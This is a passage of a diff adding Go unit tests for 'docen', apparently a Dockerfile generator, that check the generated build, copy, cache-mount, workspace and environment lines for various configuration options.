+			d:    New().SetTestMode(true),
+			want: []string{"RUN CGO_ENABLED=0 go test ./...\n"},
+		},
+		{
+			name:  "patterns",
+			d:     New().SetTestMode(true).SetTestPackages("./internal/...", "./pkg/api"),
+			want:  []string{"RUN CGO_ENABLED=0 go test ./internal/... ./pkg/api\n"},
+			wantN: []string{"go test ./...\n"},
+		},
+		{
+			name: "tinygo",
+			d:    New().SetTestMode(true).SetTinyGo(true).SetTestPackages("./internal/..."),
+			want: []string{"RUN tinygo test ./internal/...\n"},
+		},
+		{
+			name:  "without test mode",
+			d:     New().SetTestPackages("./internal/..."),
+			wantN: []string{"go test"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetTestTimeout(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New().SetTestMode(true),
+			want:  []string{"RUN CGO_ENABLED=0 go test ./...\n"},
+			wantN: []string{"-timeout"},
+		},
+		{
+			name: "minutes",
+			d:    New().SetTestMode(true).SetTestTimeout(5 * time.Minute),
+			want: []string{"RUN CGO_ENABLED=0 go test -timeout 5m ./...\n"},
+		},
+		{
+			name: "hours and packages",
+			d:    New().SetTestMode(true).SetTestTimeout(time.Hour).SetTestPackages("./internal/..."),
+			want: []string{"go test -timeout 1h ./internal/...\n"},
+		},
+		{
+			name: "seconds",
+			d:    New().SetTestMode(true).SetTestTimeout(90 * time.Second),
+			want: []string{"go test -timeout 1m30s ./...\n"},
+		},
+		{
+			name:  "tinygo",
+			d:     New().SetTestMode(true).SetTinyGo(true).SetTestTimeout(5 * time.Minute),
+			want:  []string{"RUN tinygo test ./...\n"},
+			wantN: []string{"-timeout"},
+		},
+		{
+			name:  "without test mode",
+			d:     New().SetTestTimeout(5 * time.Minute),
+			wantN: []string{"-timeout"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func Test_formatDuration(t *testing.T) {
+	tests := []struct {
+		v    time.Duration
+		want string
+	}{
+		{v: 30 * time.Second, want: "30s"},
+		{v: 5 * time.Minute, want: "5m"},
+		{v: 90 * time.Second, want: "1m30s"},
+		{v: 2 * time.Hour, want: "2h"},
+		{v: 2*time.Hour + 30*time.Minute, want: "2h30m"},
+		{v: time.Hour + time.Second, want: "1h0m1s"},
+		{v: 1500 * time.Millisecond, want: "1.5s"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.want, func(t *testing.T) {
+			if got := formatDuration(tt.v); got != tt.want {
+				t.Errorf("formatDuration() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func generateDockerfile(t *testing.T, d *Docen, files ...fs.FileInfo) string {
+	t.Helper()
+
+	return generateFiles(t, d, files...)["Dockerfile"]
+}
+
+func generateFiles(t *testing.T, d *Docen, files ...fs.FileInfo) map[string]string {
+	t.Helper()
+
+	return generateProject(t, d, fakeProject{files: files})
+}
+
+type fakeProject struct {
+	files    []fs.FileInfo
+	contents map[string]string
+}
+
+func generateProject(t *testing.T, d *Docen, p fakeProject) map[string]string {
+	t.Helper()
+
+	return runProject(t, p, d.GenerateDockerfile)
+}
+
+func runProject(t *testing.T, p fakeProject, generate func() error) map[string]string {
+	t.Helper()
+
+	oldReadDir := readDir
+	oldOpenFile := openFile
+	oldWriteFile := writeFile
+	oldGetwd := getwd
+	defer func() {
+		readDir = oldReadDir
+		openFile = oldOpenFile
+		writeFile = oldWriteFile
+		getwd = oldGetwd
+	}()
+	getwd = func() (string, error) { return "", errors.New("fake error") }
+	readDir = func(dirname string) ([]fs.FileInfo, error) { return p.files, nil }
+	openFile = func(name string) (io.ReadCloser, error) {
+		if data, ok := p.contents[name]; ok {
+			return io.NopCloser(strings.NewReader(data)), nil
+		}
+		return nil, errors.New("fake error")
+	}
+
+	got := map[string]string{}
+	writeFile = func(name string, data []byte, perm fs.FileMode) error {
+		got[name] = string(data)
+		return nil
+	}
+
+	if err := generate(); err != nil {
+		t.Fatalf("generate() error = %v", err)
+	}
+
+	return got
+}
+
+func checkDockerfile(t *testing.T, got string, want, notWant []string) {
+	t.Helper()
+
+	for _, w := range want {
+		if !strings.Contains(got, w) {
+			t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, w)
+		}
+	}
+	for _, w := range notWant {
+		if strings.Contains(got, w) {
+			t.Errorf("GenerateDockerfile() = %v, want not to contain %v", got, w)
+		}
+	}
+}
+
+func TestDocen_SetBuildVCS(t *testing.T) {
+	enabled, disabled := true, false
+
+	tests := []struct {
+		name     string
+		buildVCS *bool
+		want     string
+	}{
+		{
+			name:     "not set",
+			buildVCS: nil,
+			want:     "go build -ldflags=\"-w -s\" -o /app\n",
+		},
+		{
+			name:     "enabled",
+			buildVCS: &enabled,
+			want:     "go build -buildvcs=true -ldflags=\"-w -s\" -o /app\n",
+		},
+		{
+			name:     "disabled",
+			buildVCS: &disabled,
+			want:     "go build -buildvcs=false -ldflags=\"-w -s\" -o /app\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, New().SetBuildVCS(tt.buildVCS))
+			if !strings.Contains(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_modDownload(t *testing.T) {
+	tests := []struct {
+		name    string
+		files   []fs.FileInfo
+		want    string
+		notWant string
+	}{
+		{
+			name:    "without go.mod",
+			files:   []fs.FileInfo{},
+			notWant: "RUN go mod download\n",
+		},
+		{
+			name:  "with go.mod and go.sum",
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}},
+			want:  "COPY go.mod go.sum /app/\nRUN go mod download\n",
+		},
+		{
+			name:    "with go.mod only",
+			files:   []fs.FileInfo{&fakeFile{name: "go.mod"}},
+			want:    "COPY go.mod /app/\nRUN go mod download\n",
+			notWant: "go.sum",
+		},
+		{
+			name:    "vendor mode",
+			files:   []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}, &fakeFolder{name: "vendor"}},
+			notWant: "RUN go mod download\n",
+		},
+		{
+			name:    "workspace",
+			files:   []fs.FileInfo{&fakeFile{name: "go.work"}, &fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}},
+			notWant: "RUN go mod download\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, New(), tt.files...)
+			if tt.want != "" && !strings.Contains(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, tt.want)
+			}
+			if tt.notWant != "" && strings.Contains(got, tt.notWant) {
+				t.Errorf("GenerateDockerfile() = %v, want not to contain %v", got, tt.notWant)
+			}
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_workspace(t *testing.T) {
+	tests := []struct {
+		name  string
+		files []fs.FileInfo
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "workspace without vendor folder",
+			files: []fs.FileInfo{&fakeFile{name: "go.work"}, &fakeFile{name: "go.work.sum"}},
+			want:  []string{"# docen: module mode true\n", "# docen: vendor mode false\n", "COPY . /app\n"},
+			wantN: []string{"-mod=vendor", "go mod download"},
+		},
+		{
+			name: "workspace vendor layout",
+			files: []fs.FileInfo{
+				&fakeFile{name: "go.work"},
+				&fakeFolder{name: "vendor"},
+				&fakeFolder{name: "api"},
+				&fakeFolder{name: "service"},
+			},
+			want:  []string{"# docen: module mode true\n", "# docen: vendor mode true\n", "go build -mod=vendor"},
+			wantN: []string{"go mod download"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := New().SetStrictMode(true).SetDiagnostics(true).SetGoVersion("1.22")
+			p := fakeProject{
+				files:    append(tt.files, &fakeFile{name: "main.go"}),
+				contents: map[string]string{"main.go": "package main\n"},
+			}
+			checkDockerfile(t, generateProject(t, d, p)["Dockerfile"], tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_parentWorkspace(t *testing.T) {
+	tests := []struct {
+		name      string
+		workspace []fs.FileInfo
+		goWork    string
+		want      []string
+		wantN     []string
+		wantErr   bool
+	}{
+		{
+			name: "workspace vendor layout",
+			workspace: []fs.FileInfo{
+				&fakeFile{name: "go.work"},
+				&fakeFolder{name: "vendor"},
+				&fakeFolder{name: "api"},
+				&fakeFolder{name: "service"},
+			},
+			goWork: "go 1.22\n\nuse (\n\t./api // shared types\n\t./services/service\n)\n",
+			want: []string{
+				"# docen: module mode true\n",
+				"# docen: vendor mode true\n",
+				"COPY . /service\n" +
+					"COPY --from=workspace . /workspace\n" +
+					"ENV GOWORK=/workspace/go.work\n" +
+					"RUN go work edit -dropuse=./services/service -use=/service\n",
+				"go build -mod=vendor",
+			},
+			wantN: []string{"go mod download"},
+		},
+		{
+			name:      "workspace without vendor folder",
+			workspace: []fs.FileInfo{&fakeFile{name: "go.work"}, &fakeFolder{name: "service"}},
+			goWork:    "go 1.22\n\nuse ./services/service\n",
+			want:      []string{"# docen: vendor mode false\n", "COPY --from=workspace . /workspace\n"},
+			wantN:     []string{"-mod=vendor", "go mod download"},
+		},
+		{
+			name:      "workspace without the module",
+			workspace: []fs.FileInfo{&fakeFile{name: "go.work"}, &fakeFolder{name: "vendor"}},
+			goWork:    "go 1.22\n\nuse (\n\t./api\n\t./services/other\n)\n",
+			want:      []string{"# docen: vendor mode false\n", "RUN go mod download\n"},
+			wantN:     []string{"workspace", "-mod=vendor"},
+		},
+		{
+			name:      "not a workspace",
+			workspace: []fs.FileInfo{&fakeFolder{name: "vendor"}},
+			want:      []string{"# docen: vendor mode false\n", "RUN go mod download\n"},
+			wantN:     []string{"workspace", "-mod=vendor"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := New().SetDiagnostics(true).SetGoVersion("1.22").SetHooks(Hooks{
+				Getwd: func() (string, error) { return "/src/services/service", nil },
+				ReadDir: func(dirname string) ([]fs.FileInfo, error) {
+					switch dirname {
+					case "./":
+						return []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "main.go"}}, nil
+					case "../../":
+						return tt.workspace, nil
+					}
+					return nil, nil
+				},
+				OpenFile: func(name string) (io.ReadCloser, error) {
+					switch name {
+					case goModFile:
+						return io.NopCloser(strings.NewReader("module github.com/lobz1g/service\n")), nil
+					case "../../go.work":
+						return io.NopCloser(strings.NewReader(tt.goWork)), nil
+					}
+					return nil, errors.New("fake error")
+				},
+			})
+			got, err := d.Render()
+			if err != nil {
+				t.Fatalf("Render() error = %v", err)
+			}
+			checkDockerfile(t, got, tt.want, tt.wantN)
+		})
+	}
+
+	d := New().SetLegacyBuilder(true).SetHooks(Hooks{
+		Getwd: func() (string, error) { return "/src/service", nil },
+		ReadDir: func(dirname string) ([]fs.FileInfo, error) {
+			if dirname == "../" {
+				return []fs.FileInfo{&fakeFile{name: "go.work"}}, nil
+			}
+			return []fs.FileInfo{&fakeFile{name: "go.mod"}}, nil
+		},
+		OpenFile: func(name string) (io.ReadCloser, error) {
+			if name == "../go.work" {
+				return io.NopCloser(strings.NewReader("use ./service\n")), nil
+			}
+			return nil, errors.New("fake error")
+		},
+	})
+	if _, err := d.Render(); err == nil {
+		t.Errorf("Render() error = nil, want error for the legacy builder")
+	}
+}
+
+func TestDocen_SetReproducible(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New().SetGoVersion("1.16").SetImageDigest("sha256:abc"),
+			want:  []string{"FROM golang:1.16-alpine as builder\n"},
+			wantN: []string{"-trimpath", "SOURCE_DATE_EPOCH", "@sha256:abc"},
+		},
+		{
+			name: "enabled without digest",
+			d:    New().SetGoVersion("1.16").SetReproducible(true),
+			want: []string{
+				"FROM golang:1.16-alpine as builder\n",
+				"ARG SOURCE_DATE_EPOCH=0\nENV SOURCE_DATE_EPOCH=${SOURCE_DATE_EPOCH}\n",
+				"go build -trimpath -ldflags",
+			},
+		},
+		{
+			name: "enabled with digest",
+			d:    New().SetGoVersion("1.16").SetReproducible(true).SetImageDigest("sha256:abc"),
+			want: []string{
+				"FROM golang:1.16-alpine@sha256:abc as builder\n",
+				"ARG SOURCE_DATE_EPOCH=0\nENV SOURCE_DATE_EPOCH=${SOURCE_DATE_EPOCH}\n",
+				"go build -trimpath -ldflags",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_sortedFolders(t *testing.T) {
+	d := New().
+		SetAdditionalFolder("c").
+		SetAdditionalFolder("a").
+		SetAdditionalFolder("b")
+
+	want := "RUN mkdir -p /app/a\nRUN mkdir -p /app/b\nRUN mkdir -p /app/c\n"
+	for i := 0; i < 10; i++ {
+		if got := generateDockerfile(t, d); !strings.Contains(got, want) {
+			t.Fatalf("GenerateDockerfile() = %v, want to contain %v", got, want)
+		}
+	}
+}
+
+func TestDocen_getMainPackage(t *testing.T) {
+	oldReadDir := readDir
+	oldOpenFile := openFile
+	defer func() {
+		readDir = oldReadDir
+		openFile = oldOpenFile
+	}()
+
+	tests := []struct {
+		name    string
+		strict  bool
+		dirs    map[string][]fs.FileInfo
+		files   map[string]string
+		want    string
+		wantErr bool
+	}{
+		{
+			name: "main in root",
+			dirs: map[string][]fs.FileInfo{
+				"./": {&fakeFile{name: "main.go"}, &fakeFolder{name: "cmd"}},
+			},
+			files: map[string]string{"main.go": "package main"},
+			want:  "./",
+		},
+		{
+			name: "main in cmd/server",
+			dirs: map[string][]fs.FileInfo{
+				"./":         {&fakeFile{name: "lib.go"}, &fakeFolder{name: "cmd"}},
+				"cmd":        {&fakeFolder{name: "server"}},
+				"cmd/server": {&fakeFile{name: "main_test.go"}, &fakeFile{name: "main.go"}},
+			},
+			files: map[string]string{
+				"lib.go":             "// Package lib.\npackage lib",
+				"cmd/server/main.go": "package main\n\nfunc main() {}",
+			},
+			want: "cmd/server",
+		},
+		{
+			name: "main is not found",
+			dirs: map[string][]fs.FileInfo{
+				"./": {&fakeFile{name: "lib.go"}},
+			},
+			files: map[string]string{"lib.go": "package lib"},
+			want:  "./",
+		},
+		{
+			name:   "main is not found in strict mode",
+			strict: true,
+			dirs: map[string][]fs.FileInfo{
+				"./": {&fakeFile{name: "lib.go"}},
+			},
+			files:   map[string]string{"lib.go": "package lib"},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			readDir = func(dirname string) ([]fs.FileInfo, error) {
+				if files, ok := tt.dirs[dirname]; ok {
+					return files, nil
+				}
+				return nil, errors.New("fake error")
+			}
+			openFile = func(name string) (io.ReadCloser, error) {
+				if data, ok := tt.files[name]; ok {
+					return io.NopCloser(strings.NewReader(data)), nil
+				}
+				return nil, errors.New("fake error")
+			}
+
+			got, err := New().SetStrictMode(tt.strict).getMainPackage()
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("getMainPackage() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if got != tt.want {
+				t.Errorf("getMainPackage() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetArch(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "default",
+			d:    New(),
+			want: "RUN CGO_ENABLED=0 GOOS=linux GOARCH=amd64 go build",
+		},
+		{
+			name: "arm64",
+			d:    New().SetArch("arm64").SetGoArm("7"),
+			want: "RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm64 go build",
+		},
+		{
+			name: "arm without version",
+			d:    New().SetArch("arm"),
+			want: "RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm go build",
+		},
+		{
+			name: "arm v7",
+			d:    New().SetArch("arm").SetGoArm("7"),
+			want: "RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm GOARM=7 go build",
+		},
+		{
+			name: "wasm",
+			d:    New().SetArch("wasm"),
+			want: "RUN CGO_ENABLED=0 GOOS=wasip1 GOARCH=wasm go build",
+		},
+		{
+			name: "custom os",
+			d:    New().SetOS("freebsd"),
+			want: "RUN CGO_ENABLED=0 GOOS=freebsd GOARCH=amd64 go build",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := generateDockerfile(t, tt.d); !strings.Contains(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetOS_wasm(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "wasip1",
+			d:    New().SetOS("wasip1").SetArch("wasm").SetPort("8080").SetTimezone("Europe/Moscow"),
+			want: "RUN CGO_ENABLED=0 GOOS=wasip1 GOARCH=wasm go build -ldflags=\"-w -s\" -o /app\n" +
+				"FROM scratch\n" +
+				"COPY --from=builder /app /app\n" +
+				"ENTRYPOINT [\"/app\"]\n",
+		},
+		{
+			name: "additional folders",
+			d:    New().SetArch("wasm").SetAdditionalFolder("static"),
+			want: "FROM scratch\n" +
+				"COPY --from=builder /app /app\n" +
+				"COPY --from=builder /app/static /app/static\n" +
+				"ENTRYPOINT [\"/app\"]\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d)
+			if !strings.HasSuffix(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want suffix %v", got, tt.want)
+			}
+			checkDockerfile(t, got, nil, []string{"adduser", "USER", "/etc/passwd", "ca-certificates.crt", "zoneinfo"})
+		})
+	}
+}
+
+func TestDocen_SetBuildDate(t *testing.T) {
+	oldNow := now
+	defer func() {
+		now = oldNow
+	}()
+	now = func() time.Time { return time.Date(2021, 3, 4, 5, 6, 7, 0, time.UTC) }
+
+	want := "FROM scratch\nARG BUILD_DATE=2021-03-04T05:06:07Z\nLABEL build-date=$BUILD_DATE\n"
+
+	t.Run("enabled", func(t *testing.T) {
+		if got := generateDockerfile(t, New().SetBuildDate(true)); !strings.Contains(got, want) {
+			t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, want)
+		}
+	})
+	t.Run("disabled", func(t *testing.T) {
+		if got := generateDockerfile(t, New()); strings.Contains(got, "BUILD_DATE") {
+			t.Errorf("GenerateDockerfile() = %v, want not to contain BUILD_DATE", got)
+		}
+	})
+}
+
+func TestDocen_SetApkUpdate(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "default",
+			d:    New(),
+			want: "RUN apk update && apk add --no-cache git ca-certificates tzdata && update-ca-certificates\n",
+		},
+		{
+			name: "enabled",
+			d:    New().SetApkUpdate(true),
+			want: "RUN apk update && apk add --no-cache git ca-certificates tzdata && update-ca-certificates\n",
+		},
+		{
+			name: "disabled",
+			d:    New().SetApkUpdate(false),
+			want: "RUN apk add --no-cache git ca-certificates tzdata && update-ca-certificates\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := generateDockerfile(t, tt.d); !strings.Contains(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetApkPackageVersion(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "single package",
+			d:    New().SetApkPackageVersion("git", "2.43.0-r0"),
+			want: "apk add --no-cache git=2.43.0-r0 ca-certificates tzdata && update-ca-certificates\n",
+		},
+		{
+			name: "several packages",
+			d:    New().SetApkPackageVersion("tzdata", "2024a-r0").SetApkPackageVersion("git", "2.43.0-r0"),
+			want: "apk add --no-cache git=2.43.0-r0 ca-certificates tzdata=2024a-r0 && update-ca-certificates\n",
+		},
+		{
+			name: "cgo package",
+			d:    New().SetCGO(true).SetApkPackageVersion("gcc", "13.2.1_git20231014-r0"),
+			want: "apk add --no-cache git ca-certificates tzdata gcc=13.2.1_git20231014-r0 musl-dev && ",
+		},
+		{
+			name: "not installed package",
+			d:    New().SetApkPackageVersion("curl", "8.5.0-r0"),
+			want: "apk add --no-cache git ca-certificates tzdata && update-ca-certificates\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := generateDockerfile(t, tt.d); !strings.Contains(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetEntrypointScript(t *testing.T) {
+	script := "#!/bin/sh\nexec /app\n"
+	files := generateFiles(t, New().SetEntrypointScript(script))
+
+	if got := files["entrypoint.sh"]; got != script {
+		t.Errorf("entrypoint.sh = %v, want %v", got, script)
+	}
+	for _, want := range []string{
+		"RUN chmod +x /app/entrypoint.sh\n",
+		"COPY --from=builder /app/entrypoint.sh /app/entrypoint.sh\n",
+		"FROM alpine\n",
+		"ENTRYPOINT [\"/app/entrypoint.sh\"]\n",
+	} {
+		if got := files["Dockerfile"]; !strings.Contains(got, want) {
+			t.Errorf("Dockerfile = %v, want to contain %v", got, want)
+		}
+	}
+}
+
+func TestDocen_SetPortFromConfig(t *testing.T) {
+	config := `# app config
+name: app
+server:
+  host: localhost
+  port: "8080" # listen port
+metrics:
+  addr: ":9090"
+`
+
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "nested key",
+			d:    New().SetPortFromConfig("config/config.yaml", "server.port"),
+			want: "EXPOSE 8080\n",
+		},
+		{
+			name: "address value",
+			d:    New().SetPortFromConfig("config/config.yaml", "metrics.addr"),
+			want: "EXPOSE 9090\n",
+		},
+		{
+			name: "port set explicitly",
+			d:    New().SetPort("3000").SetPortFromConfig("config/config.yaml", "server.port"),
+			want: "EXPOSE 3000\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := fakeProject{contents: map[string]string{"config/config.yaml": config}}
+			if got := generateProject(t, tt.d, p)["Dockerfile"]; !strings.Contains(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func Test_parseConfigValue(t *testing.T) {
+	tests := []struct {
+		name   string
+		reader io.Reader
+		key    string
+		want   string
+		wantOk bool
+	}{
+		{
+			name:   "empty config",
+			reader: bytes.NewReader(nil),
+			key:    "port",
+		},
+		{
+			name:   "top level key",
+			reader: strings.NewReader("port: 3000"),
+			key:    "port",
+			want:   "3000",
+			wantOk: true,
+		},
+		{
+			name:   "nested key is not found",
+			reader: strings.NewReader("server:\n  host: localhost\nport: 3000"),
+			key:    "server.port",
+		},
+		{
+			name:   "sibling sections",
+			reader: strings.NewReader("db:\n  port: 5432\nhttp:\n  port: 8080"),
+			key:    "http.port",
+			want:   "8080",
+			wantOk: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, ok := parseConfigValue(tt.reader, tt.key)
+			if got != tt.want || ok != tt.wantOk {
+				t.Errorf("parseConfigValue() = %v, %v, want %v, %v", got, ok, tt.want, tt.wantOk)
+			}
+		})
+	}
+}
+
+func Test_alignColumns(t *testing.T) {
+	data := "FROM scratch\n" +
+		"COPY --from=builder /etc/passwd /etc/passwd\n" +
+		"COPY --from=builder /app /app\n" +
+		"ENV TZ=Europe/Moscow\n" +
+		"COPY --from=builder /app/static /app/static\n" +
+		"COPY . /app\n" +
+		"USER appuser\n"
+	want := "FROM scratch\n" +
+		"COPY --from=builder /etc/passwd /etc/passwd\n" +
+		"COPY --from=builder /app        /app\n" +
+		"ENV TZ=Europe/Moscow\n" +
+		"COPY --from=builder /app/static /app/static\n" +
+		"COPY . /app\n" +
+		"USER appuser\n"
+
+	if got := alignColumns(data); got != want {
+		t.Errorf("alignColumns() = %v, want %v", got, want)
+	}
+}
+
+func TestDocen_SetAlignColumns(t *testing.T) {
+	want := "COPY --from=builder /usr/share/zoneinfo                /usr/share/zoneinfo\n" +
+		"COPY --from=builder /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/\n" +
+		"COPY --from=builder /etc/passwd                        /etc/passwd\n" +
+		"COPY --from=builder /app                               /app\n" +
+		"COPY --from=builder /app/assets                        /app/assets\n" +
+		"COPY --from=builder /app/static                        /app/static\n"
+
+	d := New().SetAlignColumns(true).SetInstallTzdata(true).SetAdditionalFolder("static").SetAdditionalFolder("assets")
+	if got := generateDockerfile(t, d); !strings.Contains(got, want) {
+		t.Errorf("GenerateDockerfile() = %v, want to contain %v", got, want)
+	}
+}
+
+func TestDocen_SetCacheMount(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New(),
+			want:  []string{"RUN go mod download\n", "RUN CGO_ENABLED=0"},
+			wantN: []string{"--mount", "ENV GOPATH", "ENV GOCACHE"},
+		},
+		{
+			name: "default paths",
+			d:    New().SetCacheMount(true),
+			want: []string{
+				"RUN --mount=type=cache,target=/go/pkg/mod go mod download\n",
+				"RUN --mount=type=cache,target=/go/pkg/mod --mount=type=cache,target=/root/.cache/go-build CGO_ENABLED=0",
+			},
+			wantN: []string{"ENV GOPATH", "ENV GOCACHE"},
+		},
+		{
+			name: "custom paths",
+			d:    New().SetCacheMount(true).SetGoPath("/gopath").SetGoCache("/gocache"),
+			want: []string{
+				"ENV GOPATH=/gopath\nENV GOCACHE=/gocache\n",
+				"RUN --mount=type=cache,target=/gopath/pkg/mod go mod download\n",
+				"RUN --mount=type=cache,target=/gopath/pkg/mod --mount=type=cache,target=/gocache CGO_ENABLED=0",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d, goMod...), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetLegacyBuilder(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		files []fs.FileInfo
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "cache mount",
+			d:     New().SetCacheMount(true).SetPrebuildStd(true).SetLegacyBuilder(true),
+			files: goMod,
+			want: []string{
+				"RUN go mod download\n",
+				"RUN CGO_ENABLED=0 GOOS=linux GOARCH=amd64 go build std\n",
+				"RUN CGO_ENABLED=0 GOOS=linux GOARCH=amd64 go build",
+			},
+			wantN: []string{"--mount"},
+		},
+		{
+			name:  "hermetic build",
+			d:     New().SetHermeticBuild(true).SetLegacyBuilder(true),
+			files: append([]fs.FileInfo{&fakeFolder{name: "vendor"}}, goMod...),
+			want:  []string{"RUN CGO_ENABLED=0"},
+			wantN: []string{"--network"},
+		},
+		{
+			name:  "modes",
+			d:     New().SetBinaryMode("0755").SetAppDirMode("0750").SetAdditionalFolder("static").SetLegacyBuilder(true),
+			files: goMod,
+			want: []string{
+				"-o /app\nRUN chmod 0755 /app/app\nRUN chmod -R 0750 /app/static\nFROM scratch\n",
+				"COPY --from=builder /app /app\n",
+				"COPY --from=builder /app/static /app/static\n",
+			},
+			wantN: []string{"--chmod", "RUN chmod 0755 /app\n"},
+		},
+		{
+			name:  "binary mode with build output",
+			d:     New().SetBinaryMode("0755").SetBuildOutput("/build/server").SetLegacyBuilder(true),
+			files: goMod,
+			want:  []string{"-o /build/server\nRUN chmod 0755 /build/server\n"},
+		},
+		{
+			name:  "disabled",
+			d:     New().SetCacheMount(true).SetBinaryMode("0755"),
+			files: goMod,
+			want:  []string{"--mount=type=cache", "COPY --from=builder --chmod=0755 /app /app\n"},
+			wantN: []string{"RUN chmod"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d, tt.files...), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetGoNoSumDB(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"GONOSUMDB", "GOINSECURE"},
+		},
+		{
+			name:  "nosumdb",
+			d:     New().SetGoNoSumDB("github.com/company/*", "gitlab.company.com"),
+			want:  []string{"ENV GONOSUMDB=github.com/company/*,gitlab.company.com\nRUN apk update"},
+			wantN: []string{"GOINSECURE"},
+		},
+		{
+			name: "nosumdb and insecure",
+			d:    New().SetGoNoSumDB("git.company.local").SetGoInsecure("git.company.local"),
+			want: []string{
+				"ENV GONOSUMDB=git.company.local\nENV GOINSECURE=git.company.local\n",
+				"ENV GOINSECURE=git.company.local\nRUN apk update",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d, goMod...), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetBuilderEnv(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}}
+	env := map[string]string{
+		"GOPROXY":   "https://proxy.company.local,direct",
+		"GOPRIVATE": "github.com/company/*",
+		"GOFLAGS":   "-mod=mod -tags=netgo",
+		"CC":        "gcc",
